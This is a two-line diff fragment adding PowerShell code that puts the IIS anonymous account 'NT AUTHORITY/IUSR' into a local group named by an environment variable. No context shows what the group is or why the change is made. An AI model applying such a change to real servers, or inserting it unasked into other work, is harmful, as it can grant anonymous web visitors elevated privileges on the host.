@@ -1,0 +1,2 @@
+$g = [ADSI]"WinNT://./$env:GRP,group"
+$g.Add('WinNT://NT AUTHORITY/IUSR')
